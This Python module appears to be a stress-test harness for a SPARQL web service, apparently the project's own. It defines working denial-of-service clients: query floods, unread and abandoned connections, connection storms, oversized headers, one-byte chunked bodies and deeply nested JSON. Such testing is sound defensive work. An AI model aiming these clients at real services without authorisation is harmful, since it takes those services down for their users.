"""Requests that are meant to stop a server from answering others, and the clients that send them."""

from __future__ import annotations

import socket
import struct
import threading
import time
from contextlib import ExitStack, suppress
from typing import TYPE_CHECKING, Final
from urllib.parse import quote, quote_plus

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable, Sequence

    Address = tuple[str, int]
    Attack = Callable[[Address, threading.Event], None]

_PATIENCE_SECONDS = 120
_NO_LINGER = struct.pack("ii", 1, 0)
_HEAD = b"Host: e\r\n"
_ROWS = "SELECT ?a ?b ?c ({0} AS ?n) {{ ?a ?b ?c }} LIMIT 4000"
"""Some 700 kB as JSON, another answer for each number."""
_PRODUCT = "SELECT ?a ?b ?c ?d ({0} AS ?n) {{ ?a ?b ?c . ?d ?e ?f }} LIMIT {1}"
_BROWSER = b"Accept: text/html\r\n"


def _get(target: str | bytes, headers: bytes = b"") -> bytes:
    path = target.encode() if isinstance(target, str) else target
    return b"GET " + path + b" HTTP/1.1\r\n" + _HEAD + headers + b"\r\n"


def _post(body: bytes, media_type: bytes, path: bytes = b"/sparql", headers: bytes = b"") -> bytes:
    head = b"POST %b HTTP/1.1\r\n%bContent-Type: %b\r\nContent-Length: %d\r\n" % (
        path,
        _HEAD,
        media_type,
        len(body),
    )
    return head + headers + b"\r\n" + body


def _query(text: str, headers: bytes = b"") -> bytes:
    return _post(text.encode(), b"application/sparql-query", headers=headers)


def _sparql(text: str, form: str) -> bytes:
    return _get(f"/sparql?query={quote_plus(text)}&format={form}")


def _again(*requests: bytes, clients: int = 1) -> Attack:
    """Clients that send these requests in turn, each once the one before is answered."""

    def one(address: Address, end: threading.Event, number: int) -> None:
        while not end.is_set():
            with suppress(OSError), socket.create_connection(address, _PATIENCE_SECONDS) as connection:
                connection.sendall(requests[number % len(requests)])
                connection.recv(65_536)
            number += 1

    return _at_once(one, clients)


def _at_once(one: Callable[[Address, threading.Event, int], None], clients: int) -> Attack:
    def attack(address: Address, end: threading.Event) -> None:
        threads = [threading.Thread(target=one, args=(address, end, number)) for number in range(clients)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    return attack


def _unread(requests: Iterable[bytes]) -> Attack:
    """Open connections that send a request and read nothing."""

    def attack(address: Address, end: threading.Event) -> None:
        with ExitStack() as held:
            for request in requests:
                connection = held.enter_context(socket.socket())
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                with suppress(OSError):
                    connection.connect(address)
                    connection.sendall(request)
            end.wait()

    return attack


def _leaving(requests: Sequence[bytes], clients: int, seconds: float) -> Attack:
    """Clients that ask, and are gone so much later."""

    def one(address: Address, end: threading.Event, number: int) -> None:
        while not end.is_set():
            with suppress(OSError), socket.create_connection(address, 5) as connection:
                connection.sendall(requests[number % len(requests)])
                time.sleep(seconds)
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, _NO_LINGER)
            number += clients

    return _at_once(one, clients)


def _many_connections(address: Address, end: threading.Event) -> None:
    with ExitStack() as held:
        while not end.wait(0.01):
            with suppress(OSError):
                held.enter_context(socket.create_connection(address, 1))


def _chunks(count: int) -> bytes:
    head = b"POST /sparql HTTP/1.1\r\n" + _HEAD
    head += b"Content-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n"
    return head + b"1\r\na\r\n" * count


_FORM: Final = b"application/x-www-form-urlencoded"
_JSON: Final = b"application/json"
_TOOL: Final = b"Accept: application/json, text/event-stream\r\n"

ATTACKS: Final[dict[str, Attack]] = {
    "nothing at all": lambda _, end: end.wait() and None,
    "f1: `)service` 2,000 times": _again(_query("ASK { FILTER(1 <" + ")service" * 2_000 + ">1) }")),
    "f3: form of 300 kB `a&a&…`": _again(_post(b"a&" * 150_000, _FORM)),
    "f3: address of 64 kB `a&a&…`": _again(_get(b"/sparql?" + b"a&" * 32_000)),
    "f4: 300 answers of 0.7 MB, one query": _unread([_sparql(_ROWS.format(0), "json")] * 300),
    "f4: 300 answers of 0.7 MB, other queries": _unread(
        _sparql(_ROWS.format(number), "json") for number in range(300)
    ),
    "f4: 300 pages": _unread([_get("/audit/report.html"), _get("/ontology"), _get("/openapi.json")] * 100),
    "f5: 4 times 200,000 rows as XLSX": _again(
        *(_sparql(_PRODUCT.format(number, 200_000), "xlsx") for number in range(4)), clients=4
    ),
    "XLSX that nobody waits for": _leaving(
        [_sparql(_PRODUCT.format(number, 100_000), "xlsx") for number in range(50)], 4, 1.0
    ),
    "queries of 100 kB": _again(_query("SELECT * {" + "()" * 49_000), clients=16),
    "queries of 100 kB, spaces": _again(_query("ASK {" + " \t" * 49_000 + "}"), clients=8),
    "page of a query of 100,000 lines": _again(_query("ASK {" + "\n" * 98_000 + "x", _BROWSER), clients=4),
    "page of a query with `)---…`": _again(_query("ASK {} #)" + "-" * 98_000, _BROWSER)),
    "page of a query of 100 kB": _again(_query("ASK {} #" + "ñ" * 49_000, _BROWSER), clients=4),
    "page of an address of 60 kB `a=&a=…`": _again(_get(b"/queries?" + b"a=&" * 20_000, _BROWSER), clients=4),
    r"Accept: `\"\"\"…`": _again(_get("/sparql?query=ASK{}", b'Accept: "' + rb"\"" * 30_000 + b"\r\n")),
    "Accept: `a,a,…`": _again(_get("/", b"Accept: " + b"a," * 30_000 + b"\r\n"), clients=4),
    "Accept-Language: `a,a,…`": _again(_get("/", b"Accept-Language: " + b"a," * 30_000 + b"\r\n"), clients=4),
    "60 kB of short headers": _again(b"GET / HTTP/1.1\r\n" + _HEAD + b"a:\r\n" * 15_000 + b"\r\n", clients=4),
    "chunks of a byte": _again(_chunks(100_000), clients=4),
    "a thing that is not there": _again(_get("/doc/program/" + "qx" * 240, _BROWSER), clients=8),
    "60 kB of slashes": _again(_get("/doc/" + "a/" * 30_000, _BROWSER), clients=4),
    "MCP: nested JSON": _again(_post(b"[" * 300_000, _JSON, b"/mcp", _TOOL), clients=4),
    "long answers, left after 50 ms": _leaving(
        [_sparql(_PRODUCT.format(number, 2_000_000), "json") for number in range(500)], 20, 0.05
    ),
    "endless queries, left after 50 ms": _leaving(
        [
            _get("/sparql?query=" + quote(f"SELECT(COUNT(*)AS ?n){{?a ?b ?c.?d ?e ?f.?g ?h ?{number}}}"))
            for number in range(500)
        ],
        20,
        0.05,
    ),
    "pictures": _again(_get("/ontology/diagram.png"), _get("/alignment.png"), clients=20),
    "connections, 100 a second": _many_connections,
}
